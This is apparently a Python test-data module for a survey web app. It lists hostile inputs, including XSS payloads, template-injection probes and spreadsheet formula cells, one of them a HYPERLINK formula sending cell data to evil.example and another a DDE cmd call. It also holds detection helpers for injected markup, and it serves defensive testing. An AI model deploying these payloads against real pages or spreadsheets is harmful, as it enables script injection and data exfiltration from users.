"""Hostile input for the security tests: what a respondent (or anyone whose text reaches an
evaluator's browser or spreadsheet) might type. Every markup payload sets the sentinel
`window.__pwned` and calls `alert`, so a browser that ran any of it would tell.

Plain data, no fixtures: `tests/hostile_input/` and the browser tests share it.
"""

from __future__ import annotations

import re

from lxml import html as lxml_html

SENTINEL = "window.__pwned=1"

# Markup that must come back as text wherever it is shown: tags, event handlers, URLs
# with a script scheme, breakouts from the contexts the templates use (attribute values,
# <textarea>, <title>, comments), template syntax, Markdown (the report page), entities.
XSS: dict[str, str] = {
    "script": f"<script>{SENTINEL};alert(1)</script>",
    "script_mixed_case": f"<ScRiPt>{SENTINEL};alert(2)</sCrIpT>",
    "img_onerror": f'<img src=x onerror="{SENTINEL};alert(3)">',
    "svg_onload": f"<svg onload={SENTINEL};alert(4)>",
    "details_ontoggle": f"<details open ontoggle={SENTINEL};alert(5)>",
    "iframe_javascript": f'<iframe src="javascript:{SENTINEL};alert(6)"></iframe>',
    "anchor_javascript": f'<a href="javascript:{SENTINEL};alert(7)">Läs mer</a>',
    "javascript_url": f"javascript:{SENTINEL};alert(8)",
    "attribute_double_quote": f'" onmouseover="{SENTINEL};alert(9)" autofocus onfocus="{SENTINEL}" x="',
    "attribute_single_quote": f"' onmouseover='{SENTINEL};alert(10)' autofocus onfocus='{SENTINEL}' x='",
    "textarea_breakout": f"</textarea><script>{SENTINEL};alert(11)</script>",
    "title_breakout": f"</title><script>{SENTINEL};alert(12)</script>",
    "style_breakout": f"</style><img src=x onerror={SENTINEL};alert(13)>",
    "comment_breakout": f"--><script>{SENTINEL};alert(14)</script><!--",
    "json_breakout": f'</script>"}}]; {SENTINEL}; alert(15); //',
    "meta_refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{SENTINEL}">',
    "base_href": '<base href="https://evil.example/">',
    "template_expression": "{{7*7}} {{ config.SECRET_KEY }} ${7*7}",
    "template_statement": "{% for x in range(3) %}loop{% endfor %} {# kommentar #}",
    "markdown_link": f'[Klicka här](javascript:{SENTINEL}) ![bild](x" onerror="{SENTINEL}) <https://evil.example>',
    "html_entities": f"&lt;script&gt;{SENTINEL}&lt;/script&gt; &#60;img src=x onerror={SENTINEL}&#62;",
}

# Cells a spreadsheet would run as a formula (or DDE command) unless neutralised.
CSV: dict[str, str] = {
    "hyperlink": '=HYPERLINK("https://evil.example/?d="&A1;"Klicka")',
    "plus_sum": "+SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at_cmd": "@SUM(A1:A9)",
    "tab_prefixed": "\t=1+2",
    "cr_prefixed": "\r=1+2",
}

# Text that is odd but legitimate: kept exactly, shown as written.
UNICODE: dict[str, str] = {
    "right_to_left_override": "Rektor \u202e<script>alert(16)</script>\u202c på skolan",
    "zero_width": "Sam\u200bverkan\u200c med\u200d skolan\u2060 och\ufeff hemmet",
    "emoji_outside_bmp": "Bra stöd 👍🏽 för barnet 🧒 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝟙𝟚𝟛",
    "long_single_word": "Socialtjänstsamverkan" * 200,
}

ANSWERS: dict[str, str] = {**XSS, **CSV, **UNICODE}

ONE_MEGABYTE = ("Barnet behöver stöd i skolan och hemma. " * 30_000)[: 1024 * 1024]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# What a payload becomes when a text field stores it: edges stripped, CR/LF unified,
# control characters other than newline and tab dropped (survey.forms._clean_text).
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")


def cleaned(value: str) -> str:
    return _CONTROL.sub("", value.replace("\r\n", "\n").replace("\r", "\n")).strip()


# --- checking pages --------------------------------------------------------------------

_DANGEROUS_TAGS = {"iframe", "object", "embed", "base", "svg", "math", "frame", "frameset"}
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"}


def injected_markup(page: str) -> list[str]:
    """Everything in a page that hostile text could only have put there: inline scripts,
    event-handler attributes, script URLs, refreshes and embedding tags. The app's own
    pages have none of these (scripts come from /static/ only), so any hit is injected."""
    found: list[str] = []
    tree = lxml_html.document_fromstring(page)
    for element in tree.iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        if tag == "script" and not (element.get("src") or "").startswith("/static/"):
            found.append(f"<script> {(element.text or '')[:60]!r}")
        if tag in _DANGEROUS_TAGS:
            found.append(f"<{tag}>")
        if tag == "meta" and element.get("http-equiv"):
            found.append(f"<meta http-equiv={element.get('http-equiv')!r}>")
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"<{tag} {name}={value[:60]!r}>")
            scheme = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if name.lower() in _URL_ATTRIBUTES and scheme.startswith(
                ("javascript:", "vbscript:", "data:text/html")
            ):
                found.append(f"<{tag} {name}={value[:60]!r}>")
    return found


def visible_text(page: str) -> str:
    """The text a reader sees (tags gone, entities decoded), whitespace runs as one space,
    plus the values of form fields (which show stored text for editing)."""
    tree = lxml_html.document_fromstring(page)
    for bad in tree.xpath("//script|//style"):
        bad.drop_tree()
    parts = [tree.text_content()]
    parts += [v for v in tree.xpath("//input/@value|//*/@title") if isinstance(v, str)]
    return " ".join(" ".join(parts).split())


def same_words(value: str) -> str:
    return " ".join(value.split())
